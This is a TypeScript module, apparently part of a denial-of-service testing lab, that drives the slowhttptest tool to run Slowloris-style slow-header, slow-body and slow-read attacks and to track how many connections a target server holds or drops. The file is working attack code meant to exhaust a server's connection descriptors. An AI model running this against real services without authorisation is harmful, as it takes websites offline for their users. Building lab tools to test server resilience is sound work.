import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { z } from 'zod';
import { LabError } from '../lab-error.ts';
import type { AttackContext, AttackDefinition, ResolvedPlan } from './attack.ts';
import { waitUnlessAborted } from './pace.ts';
import { totalDurationMs } from './phases.ts';
import { type SlowRun, slowhttptestPlan } from './slowhttptest-plan.ts';
import { socketBytes } from './socket-bytes.ts';

export interface SlowlorisSettings {
  /** Path asked for. Default `/`. */
  readonly path: string;
  /** What is slow: the request's headers (default), its body, or the reading of the answer. */
  readonly slow: 'headers' | 'body' | 'read';
  /** Seconds between two morsels of a slow header or body. Default 10. 1 to 300. */
  readonly intervalSeconds: number;
}

const modeFlags: Readonly<Record<SlowlorisSettings['slow'], string>> = {
  headers: '-H',
  body: '-B',
  read: '-X',
};
/** slowhttptest refuses more connections than this. */
const CONNECTIONS_MAX = 65_539;
/** How often the kernel is asked for the connections' bytes. */
const WATCH_PERIOD_MS = 1000;

function slowhttptestArgs(plan: ResolvedPlan, settings: SlowlorisSettings, run: SlowRun): string[] {
  const host = plan.host.includes(':') ? `[${plan.host}]` : plan.host;
  return [
    modeFlags[settings.slow],
    ...['-c', String(run.connections), '-r', String(run.ratePerSecond), '-l', String(run.lengthSeconds)],
    ...['-i', String(settings.intervalSeconds), '-n', String(Math.min(settings.intervalSeconds, 5))],
    ...['-u', `${plan.tls ? 'https' : 'http'}://${host}:${plan.port}${settings.path}`],
  ];
}

/** Follows the connections of the running slowhttptests: how many are held, how many the target closed, bytes. */
class Watch {
  readonly #context: AttackContext;
  readonly #last = new Map<string, { sent: number; received: number }>();
  #held = new Set<string>();

  constructor(context: AttackContext) {
    this.#context = context;
  }

  async look(pids: ReadonlySet<number>): Promise<void> {
    const { plan, meter } = this.#context;
    if (pids.size === 0) return;
    const sockets = await socketBytes(plan.host, plan.port, pids);
    const now = new Set(sockets.map((socket) => socket.local));
    for (const socket of sockets) {
      const before = this.#last.get(socket.local) ?? { sent: 0, received: 0 };
      meter.addBytes(socket.sent - before.sent, socket.received - before.received);
      this.#last.set(socket.local, socket);
      if (!this.#held.has(socket.local)) meter.sent += 1;
    }
    for (const local of this.#held) {
      if (now.has(local)) continue;
      meter.failed += 1;
      this.#last.delete(local);
    }
    this.#held = now;
    meter.inFlight = now.size;
  }

  /** What is held at the end was held to the end. */
  finish(): void {
    this.#context.meter.completed += this.#held.size;
    this.#context.meter.inFlight -= this.#held.size;
  }
}

async function attack(context: AttackContext, settings: SlowlorisSettings): Promise<void> {
  const { plan, meter, signal } = context;
  const beganMs = meter.elapsedMs();
  const endMs = totalDurationMs(plan.phases);
  const children = new Map<number, ChildProcess>();
  const startRun = async (run: SlowRun): Promise<void> => {
    await waitUnlessAborted(run.startMs - (meter.elapsedMs() - beganMs), signal);
    if (signal.aborted) return;
    const child = spawn('slowhttptest', slowhttptestArgs(plan, settings, run), { stdio: 'ignore' });
    await new Promise<void>((resolve) => {
      child.once('error', () => resolve());
      child.once('exit', () => resolve());
      if (child.pid !== undefined) children.set(child.pid, child);
    });
    if (child.pid !== undefined) children.delete(child.pid);
  };
  const connectionsMax = Math.min(plan.maxRequests, plan.maxInFlight, CONNECTIONS_MAX);
  const runs = slowhttptestPlan(plan.phases, connectionsMax).map(startRun);
  const watch = new Watch(context);
  while (!signal.aborted && meter.elapsedMs() - beganMs < endMs) {
    await waitUnlessAborted(Math.min(WATCH_PERIOD_MS, endMs - (meter.elapsedMs() - beganMs)), signal);
    await watch.look(new Set(children.keys()));
  }
  watch.finish();
  for (const child of children.values()) child.kill('SIGKILL');
  await Promise.all(runs);
}

/** Slowloris and its kin: connections that never finish, held by the program slowhttptest. */
export const slowloris: AttackDefinition<'slowloris'> = {
  name: 'slowloris',
  title: 'Opens connections and keeps each alive with a morsel now and then, until the target has none left.',
  needs: [
    'An HTTP or HTTPS port. Rates are new connections per second; each is held to the end of the attack.',
    'Generous time limits: Node waits 60 s for headers and 300 s for a body, and looks every 30 s.',
    'For slow read: a path with a large answer. The attacker needs the program slowhttptest.',
  ],
  exhausts: 'descriptors',
  settings: z.strictObject({
    path: z.string().startsWith('/').default('/'),
    slow: z.enum(['headers', 'body', 'read']).default('headers'),
    intervalSeconds: z.int().min(1).max(300).default(10),
  }),
  prepare(settings) {
    for (const program of ['slowhttptest', 'ss'])
      if (spawnSync(program, ['-h'], { stdio: 'ignore' }).error !== undefined)
        throw new LabError(
          `${program} is not installed: run lab/scripts/install-debian.sh, which installs it.`,
        );
    return (context) => attack(context, settings);
  },
};
